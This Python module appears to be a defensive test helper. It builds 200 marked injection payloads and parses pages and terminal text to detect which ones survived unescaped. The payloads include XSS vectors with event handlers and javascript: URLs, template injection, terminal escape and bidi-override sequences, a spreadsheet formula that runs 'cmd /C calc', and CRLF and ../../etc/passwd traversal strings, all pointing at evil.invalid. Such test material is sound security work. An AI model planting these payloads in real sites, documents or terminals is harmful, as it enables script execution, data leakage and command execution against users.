"""Texts that would run, load or format something wherever they are not escaped; what of them a page has taken over.

In: a page as HTML, or the text of a terminal. Out: what is in it that a harmless text would not have put there.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product

VECTORS = (
    "<script>pwn()</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<script\x0csrc='https://evil.invalid/x.js'>",
    "<img src=x onerror=pwn()>",
    "<img/src='x'onerror=pwn()>",
    "<img src=https://evil.invalid/leak.png>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<iframe src=https://evil.invalid></iframe>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<object data=https://evil.invalid/x.swf></object>",
    "<embed src=https://evil.invalid/x.swf>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid><button>go</button></form>",
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>",
    "<body onload=pwn()>",
    "<a href=javascript:pwn()>x</a>",
    "<a href='java\tscript:pwn()'>x</a>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<div style='background:url(https://evil.invalid/x.png)'>",
    "<template><img src=x onerror=pwn()></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<?xml version='1.0'?><img src=x onerror=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<marquee onstart=pwn()>",
    '" onmouseover="pwn()" x="',
    "' onmouseover='pwn()' x='",
    "` onmouseover=`pwn()` x=`",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${pwn()}#{pwn()}<%= pwn() %>",
    "&lt;script&gt;pwn()&lt;/script&gt;&#60;img src=x onerror=pwn()&#62;",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "[x](javascript:pwn()) ![x](https://evil.invalid/x.png) <https://evil.invalid>",
    "```\n<img src=x onerror=pwn()>\n```\n# heading\n| a | b |\n|---|---|",
    "---\nlicense: evil\n---\n<img src=x onerror=pwn()>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m\x90q\x9c\u202etxt.exe\u202c\u2066x\u2069",
    "[bold red]markup[/] [link=https://evil.invalid]x[/link]",
    "a\rb\nc\x08\x08\x7f\u2028d\u2029e\u0085f",
    '=HYPERLINK("https://evil.invalid";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0,\"x\";y\tz",
    "%0d%0aSet-Cookie: x=1%00../../etc/passwd",
)
PREFIXES = ("", "\"'>", "--></script></style></title></textarea></pre></code></svg>", "]]>*/}//`\n\n")
PAYLOADS = tuple(
    f"{prefix}{vector} zq{number:03}" for number, (vector, prefix) in enumerate(product(VECTORS, PREFIXES))
)
"""200 payloads, each with a word of its own at its end. What they load lies in evil.invalid, what they run is pwn()."""
HARMLESS = tuple(f"word {number} zq{number:03}" for number in range(len(PAYLOADS)))

LOADING = {
    *("href", "src", "srcset", "srcdoc", "action", "formaction", "data", "poster", "background", "xlink:href", "style"),
    *("content", "ping", "cite", "manifest"),
}
_HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@dataclass
class Dom(HTMLParser):
    """Elements of a page: names of tags, of attributes, number of each kind that runs or loads, and what is loaded."""

    text: str
    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    loaded: set[str] = field(default_factory=set)
    num_active: int = 0

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.num_active += tag in ("style", "meta", "link", "base", "title", "form", "iframe")
        self.num_active += tag == "script" and not any(
            value == "application/json" for _, value in attrs
        )  # a chart's data
        for name, value in attrs:
            self.attributes.add(name)
            if name in LOADING:
                self.loaded.add(value or "")


def find_foreign(page: str, harmless: str) -> list[str]:
    """What a page has that the same page of harmless texts has not: elements, attributes, handlers, addresses."""
    found, usual = Dom(page), Dom(harmless)
    wrong = [f"element {tag}" for tag in found.tags - usual.tags]
    wrong += [f"attribute {name}" for name in found.attributes - usual.attributes]
    wrong += [f"handler {name}" for name in found.attributes if name.startswith("on")]
    wrong += [f"loads {value[:80]!r}" for value in found.loaded if re.search(r"evil\.invalid|script:|pwn", value, re.I)]
    if found.num_active != usual.num_active:
        wrong.append(f"{found.num_active} elements that run or load, {usual.num_active} are usual")
    return sorted(wrong)


def get_mark(text: str) -> str:
    """The word at the end of a payload, by which it is found wherever it is shown."""
    return text[-5:]


def find_hidden(text: str) -> list[str]:
    """Characters of a terminal's text that move, colour, hide or reorder it."""
    return sorted({f"U+{ord(one):04X}" for one in _HIDDEN.findall(text)})
